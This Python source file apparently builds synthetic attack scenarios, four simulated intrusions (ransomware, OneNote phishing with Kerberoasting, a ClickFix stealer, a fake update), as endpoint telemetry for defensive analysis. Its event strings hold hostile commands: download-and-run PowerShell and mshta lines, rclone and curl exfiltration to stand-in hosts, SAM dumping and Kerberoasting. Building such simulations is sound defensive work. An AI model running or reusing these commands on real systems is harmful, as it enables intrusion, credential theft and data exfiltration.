"""Intruders who came by mail or by a page that a person believed."""
from kit.acts import encoded

from . import estate
from .steps import (beacon, blind, clear, encrypt, h, inhibit, lsass, m, psexec, rdp, run_key, s, send, stage, stop,
                    task, wmi, winrm)


@estate("iso-ransom", "A disk image behind a link; definitions two weeks old; files encrypted three days later")
def iso_ransom(e):
    desks = e.people(34)
    dc, fs, bk, app = e.servers("dc", "file", "backup", "app")
    e.admin()
    pc, other = desks[11], desks[20]
    pc.av_stale = e.at(2, "00:00")
    pc.changes.append((e.at(4, "00:00"), "scid-2011", False))
    t = e.at(e.workday(14), "09:41")
    c2, dll = "203.0.113.141", "loader maple"
    for dev, late in ((other, m(-17)), (pc, m(0))):
        b = e.run(dev, t + late, "msedge.exe", '"msedge.exe" --single-argument https://files-share.example.net/d/7731',
                  e.base(dev, "OUTLOOK.EXE"))
        iso = e.file(dev, t + late + s(21), "FileCreated", f"C:\\Users\\{dev.user}\\Downloads\\Scan_7731.iso", b,
                     content="iso maple", size=2_900_000, FileOriginUrl="https://files-share.example.net/d/7731")
    r = e.detection(other, t - m(15), "E:\\data\\docs.dll", "Trojan:Win64/Maplebot.B!dll", True,
                    e.base(other, "explorer.exe"), content=dll)
    e.held(other, "T1204.002", "scid-2011", t - m(15), "the same library was removed here: definitions were fresh", [r])
    x = e.base(pc, "explorer.exe")
    cmd = e.run(pc, t + m(2), "cmd.exe",
                '"C:\\Windows\\System32\\cmd.exe" /c start rundll32 E:\\data\\docs.dll,DllMain', x)
    rd = e.run(pc, t + m(2) + s(1), "rundll32.exe", "rundll32 E:\\data\\docs.dll,DllMain", cmd)
    ld = e.load(pc, t + m(2) + s(1.2), "E:\\data\\docs.dll", rd, content=dll)
    e.entry(pc, t + m(2), ["T1566.002", "T1204.002", "T1218.011"], "phishing", [iso, cmd, rd, ld])
    e.cause(pc, "T1204.002 T1566.002 T1218.011", "av.signature_age", "would-have-blocked",
            "definitions of this desk stood still; the same hash was removed elsewhere minutes before",
            same=("scid-2011",), rows=[r, ld])
    beacon(e, pc, t + m(3), rd, c2, "cdn-metrics.example.net", 14, 1700)
    run_key(e, pc, t + m(9), rd, "OneSync", f"rundll32.exe C:\\Users\\{pc.user}\\AppData\\Local\\sync.dll,DllMain")
    for i, word in enumerate(("whoami /all", "nltest /domain_trusts", "net group \"Domain Admins\" /domain")):
        e.run(pc, t + m(22 + i), word.split()[0] + ".exe", word, rd)
    e.note(pc, "T1482", "T1087.002", "T1071.001")
    ad = e.logon(pc, t + h(3), e.admin_user, "RemoteInteractive", e.admin_desk, admin=True)
    night = e.at((t - e.start).days + 1, "22:10")
    p, rows = lsass(e, pc, night, rd)
    a = e.rule(pc, night + s(1), "scid-2509", p)
    e.cause(pc, "T1003.001", "scid-2509", "would-have-blocked",
            "the rule was only auditing and names this very process",
            same=("scid-25", "scid-2080"), rows=[a, *rows], audit=True)
    e.cause(pc, "T1003.001 T1078.002", "id.tiering", "would-have-limited",
            "the administrator of servers had logged on to this desk hours before", rows=[ad, *rows])
    fs.off |= {"scid-2021"}
    sh = psexec(e, pc, fs, night + m(31), e.admin_user, rd, "cmd.exe /c powershell -nop")
    e.cause(fs, "T1569.002", "scid-2510", "would-have-blocked", "the rule against PsExec children was off", rows=[sh])
    q = blind(e, fs, night + m(38), sh)
    e.cause(fs, "T1562.001", "scid-2003", "would-have-blocked", "tamper protection was off before", rows=q)
    bkp = e.logon(bk, night + m(44), e.admin_user, "Network", pc, admin=True)
    svc = e.event(bk, night + m(44) + s(1), "AsrPsexecWmiChildProcessBlocked", e.base(bk, "services.exe"),
                  {"RuleId": "d1e49aac-8f56-4280-b9ba-993a6d77406c"}, FileName="cmd.exe",
                  FolderPath="C:\\Windows\\System32\\cmd.exe", ProcessCommandLine="cmd.exe /c powershell -nop")
    e.held(bk, "T1569.002", "scid-2510", night + m(44), "the rule blocked the child", [bkp, svc])
    z = stage(e, fs, night + m(70), sh, "C:\\PerfLogs\\p1.7z",
              "C:\\PerfLogs\\7z.exe a -v2g C:\\PerfLogs\\p1.7z D:\\Data\\HR")
    send(e, fs, night + m(95), sh, "C:\\PerfLogs\\rc.exe copy C:\\PerfLogs\\p1.7z mega:in --transfers 16",
         "192.0.2.233",
         "g.api.mega.example")
    k = e.at((night - e.start).days + 2, "03:20")
    sh = rdp(e, pc, fs, k, e.admin_user, rd)
    lock = e.run(fs, k + m(6), "C:\\PerfLogs\\lck.exe", "C:\\PerfLogs\\lck.exe --path D:\\ --spread no", sh)
    inhibit(e, fs, k + m(6) + s(5), lock)
    stop(e, fs, k + m(6) + s(9), lock, "VeeamBackupSvc")
    rows = encrypt(e, fs, k + m(7), lock, ".maple", "HOW_TO_RETURN.txt", 60)
    e.cause(fs, "T1486", "scid-2508", "would-have-blocked", "rule off, no controlled folders",
            same=("scid-2021",), rows=rows[:2])
    clear(e, fs, k + m(14), lock)
    e.alert(fs, k + m(8), "Ransomware behavior detected in the file system", "Ransomware", "High", ["T1486"], lock)
    e.decoy(desks[3], "scid-2509", "off, never reached")
    e.decoy(app, "scid-2508", "off, never reached")
    e.decoy(fs, "CVE-2020-1472", "open, not used")
    dc.unlisted.add("scid-84")


@estate("onenote-remoting",
        "A note book with a script inside; a service account roasted; data leaves an application server")
def onenote(e):
    e.late = 0.03
    desks = e.people(12)
    dc, app = e.servers("dc", "app")
    pc = desks[4]
    pc.leases, desks[7].leases = [(e.at(6, "07:00"), f"{e.net_it}.20.171")], [(e.at(6, "07:30"), pc.ip)]
    t = e.at(e.workday(12), "14:22")
    on = e.run(pc, t, "onenote.exe",
               f'"ONENOTE.EXE" "C:\\Users\\{pc.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\'
               'Content.Outlook\\8F2\\Delivery note.one"', e.base(pc, "OUTLOOK.EXE"))
    f = e.file(pc, t + s(30), "FileCreated",
               f"C:\\Users\\{pc.user}\\AppData\\Local\\Temp\\OneNote\\16.0\\Exported\\Open.hta", on)
    ht = e.run(pc, t + s(41), "mshta.exe", '"C:\\Windows\\SysWOW64\\mshta.exe" "Open.hta"', on)
    a = e.rule(pc, t + s(41), "scid-2501", ht)
    n = e.net(pc, t + s(44), ht, "203.0.113.92", 80, "delivery-note.example.org")
    ps = e.run(pc, t + s(47), "powershell.exe",
               f"powershell -w hidden -enc {encoded('IEX (irm http://203.0.113.92/j)')}", ht)
    e.entry(pc, t + s(41), ["T1566.001", "T1204.002", "T1218.005"], "phishing", [on, f, ht, n])
    e.cause(pc, "T1204.002 T1566.001", "scid-2501", "would-have-blocked", "the rule audited this very start",
            rows=[a, ht], audit=True)
    e.cause(pc, "T1218.005", "scid-107", "would-have-blocked", "mshta fetched the next part; its way out was open",
            rows=[n])
    beacon(e, pc, t + m(1), ps, "203.0.113.92", "delivery-note.example.org", 9, 2400)
    task(e, pc, t + m(12), ps, "OfficeTelemetryCheck", "mshta http://203.0.113.92/k")
    e.event(pc, t + m(50), "LdapSearch", ps, {"SearchFilter": "(&(servicePrincipalName=*)(objectCategory=user))",
                                              "AttributeList": ["servicePrincipalName"],
                                              "DistinguishedName": "DC=corp"})
    k = e.run(pc, t + m(52), "powershell.exe",
              "powershell -c Invoke-Kerberoast -OutputFormat Hashcat | Out-File h.txt", ps)
    r = e.file(pc, t + m(52) + s(20), "FileCreated", f"C:\\Users\\{pc.user}\\AppData\\Local\\Temp\\h.txt", k, size=9100)
    e.harm(pc, t + m(52), "T1558.003", "credentials-stolen", "tickets of service accounts", [k, r])
    e.cause(pc, "T1558.003", "scid-32", "would-have-limited",
            "a service account with rights on servers has a short password that can be guessed from its ticket",
            same=("id.tiering",), rows=[k, r])
    t = t + h(27)
    w = winrm(e, pc, app, t, "svc.app", ps)
    e.run(app, t + m(3), "net.exe", "net localgroup administrators", w)
    stage(e, app, t + m(20), w, "C:\\ProgramData\\d.zip",
          "tar.exe -a -cf C:\\ProgramData\\d.zip E:\\AppData\\Customers", "T1560.001")
    send(e, app, t + m(33), w, "curl.exe -s -T C:\\ProgramData\\d.zip https://upload.example.org/p/", "192.0.2.87",
         "upload.example.org", "T1048")
    e.decoy(desks[1], "scid-2501", "off, its user never got the mail")
    e.decoy(dc, "scid-2509", "off, never reached")
    e.missing |= {"DeviceImageLoadEvents", "AlertInfo", "AlertEvidence", "DeviceNetworkInfo"}


@estate("clickfix-stealer", "A five-desk office; a user pastes a command; passwords of the browser leave")
def clickfix(e):
    desks = e.people(5, mix="w11")
    pc = desks[2]
    t = e.at(e.workday(15), "11:07")
    e.run(pc, t, "chrome.exe", '"chrome.exe" -- "https://verify-human.example.net/"')
    r = e.registry(pc, t + s(40),
                   f"HKEY_CURRENT_USER\\{e.sid(pc.user, e.org)}\\Software\\Microsoft\\Windows\\CurrentVersion\\"
                   "Explorer\\RunMRU", "a", "powershell -w h -c \"iex(irm 203.0.113.9/c)\" # I am not a robot\\1",
                   e.base(pc, "explorer.exe"))
    ps = e.run(pc, t + s(41), "powershell.exe", 'powershell -w h -c "iex(irm 203.0.113.9/c)" # I am not a robot')
    n = e.net(pc, t + s(43), ps, "203.0.113.9", 80)
    np = e.event(pc, t + s(43), "ExploitGuardNetworkProtectionAudited", ps, {
        "DisplayName": "203.0.113.9", "ResponseCategory": "CmdCtrl", "IsAudit": True}, RemoteUrl="203.0.113.9",
        RemoteIP="203.0.113.9", RemotePort=80)
    e.entry(pc, t + s(41), ["T1204.004", "T1204.001", "T1059.001"], "user-execution", [r, ps, n])
    e.cause(pc, "T1105 T1204.001 T1204.004", "scid-96", "would-have-blocked",
            "network protection was only auditing: it named this address", rows=[np, n])
    ex = e.file(pc, t + s(51), "FileCreated", f"C:\\Users\\{pc.user}\\AppData\\Local\\Temp\\ds\\setup.exe", ps,
                content="stealer d")
    st = e.run(pc, t + s(55), ex["FolderPath"], "setup.exe", ps, content="stealer d")
    a = e.rule(pc, t + s(55), "scid-2507", st)
    e.cause(pc, "T1204.002", "scid-2507", "would-have-blocked", "the rule on rare programs audited this file",
            rows=[a, st], audit=True)
    rows = [e.file(pc, t + s(62 + i), "FileCreated", f"C:\\Users\\{pc.user}\\AppData\\Local\\Temp\\ds\\{x}", st,
                   size=49152) for i, x in enumerate(("Login Data", "Cookies", "Web Data", "key4.db"))]
    e.harm(pc, t + s(62), "T1555.003", "credentials-stolen", "stores of the browsers", rows)
    z = e.file(pc, t + s(80), "FileCreated", f"C:\\Users\\{pc.user}\\AppData\\Local\\Temp\\ds\\out.zip", st,
               size=2_400_000)
    e.harm(pc, t + s(80), "T1560", "data-staged", "out.zip", [z])
    n = e.net(pc, t + s(95), st, "192.0.2.201", 8443)
    e.harm(pc, t + s(95), "T1041", "data-exfiltrated", "192.0.2.201", [n])
    e.decoy(desks[0], "scid-96", "off, its user saw no such page")
    e.decoy(pc, "CVE-2023-5217", "open, not used")
    e.missing |= {"AlertInfo", "AlertEvidence", "DeviceBaselineComplianceAssessment", "DeviceNetworkInfo"}
    return ("rounds", "patches") if e.style == "a" else ("scanner",)


@estate("fake-update", "A hacked page offers a browser update; a remote tool; one local password on every desk")
def fake_update(e):
    desks = e.people(26)
    dc, fs = e.servers("dc", "file")
    pc, two, three = desks[7], desks[9], desks[15]
    two.leases, three.former, three.renamed = [(e.at(6, "08:00"),
                                                f"{e.net_it}.20.{180}")], "OLD-" + three.name, e.at(9, "10:00")
    e.locals.add("wsadmin")
    t = e.at(e.workday(11), "16:48")
    b = e.run(pc, t, "chrome.exe", '"chrome.exe" -- "https://garden-club.example.org/spring"')
    e.net(pc, t + s(1), b, "203.0.113.55", 443, "garden-club.example.org")
    f = e.file(pc, t + s(33), "FileCreated", f"C:\\Users\\{pc.user}\\Downloads\\Update.js", b,
               FileOriginUrl="https://garden-club.example.org/spring", content="update js")
    ws = e.run(pc, t + s(52), "wscript.exe",
               f'"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\{pc.user}\\Downloads\\Update.js"')
    n = e.net(pc, t + s(55), ws, "203.0.113.56", 443, "tracking.example.org")
    e.entry(pc, t + s(52), ["T1189", "T1204.002", "T1059.007"], "user-execution", [f, ws, n])
    ns = f"C:\\Users\\{pc.user}\\AppData\\Roaming\\Netsup\\client32.exe"
    ps = e.run(pc, t + s(70), "powershell.exe",
               "powershell.exe -ep bypass -c \"$u='https://tracking.example.org/z'; iwr $u -o z.zip;"
               ' Expand-Archive z.zip"', ws)
    a = e.rule(pc, t + s(70), "scid-2504", ps)
    e.cause(pc, "T1059.007 T1204.002", "scid-2504", "would-have-blocked", "the rule audited what the script fetched",
            rows=[a, ps], audit=True)
    fr = e.file(pc, t + s(92), "FileCreated", ns, ps, content="netsupport client")
    nc = e.run(pc, t + s(99), ns, f'"{ns}"', ps, content="netsupport client")
    e.harm(pc, t + s(92), "T1219", "remote-tool-installed", "NetSupport", [fr, nc])
    run_key(e, pc, t + s(104), ps, "Netsup", ns)
    beacon(e, pc, t + s(110), nc, "203.0.113.57", None, 20, 3600, 443)
    t = e.at((t - e.start).days + 3, "02:31")
    rg = e.run(pc, t, "reg.exe", "reg save HKLM\\SAM C:\\Users\\Public\\s.hiv", nc, level="High")
    r2 = e.file(pc, t + s(2), "FileCreated", "C:\\Users\\Public\\s.hiv", rg, size=65536)
    e.harm(pc, t, "T1003.002", "credentials-stolen", "hashes of local accounts", [rg, r2])
    e.cause(pc, "T1003.002", "scid-84", "would-have-limited", "the local password is the same on every desk", rows=[rg])
    for i, to in enumerate((two, three)):
        q = wmi(e, pc, to, t + m(20 + 9 * i), "wsadmin", nc,
                "cmd.exe /c powershell -nop -c iwr 203.0.113.57/c -o c:\\x.exe")
        e.cause(to, "T1021.002 T1550.002 T1047", "scid-84", "would-have-blocked",
                "no managed local password: the hash of another desk opens this one", same=("scid-52", "scid-2510"),
                rows=[q])
    fl = e.logon(fs, t + m(41), "wsadmin", "Network", pc, ok=False, domain=fs.name.lower())
    e.held(fs, "T1021.002", "scid-84", t + m(41), "the file server has a password of its own", [fl])
    e.decoy(desks[2], "scid-84", "off, never reached")
    e.decoy(two, "CVE-2025-0411", "open, not used")
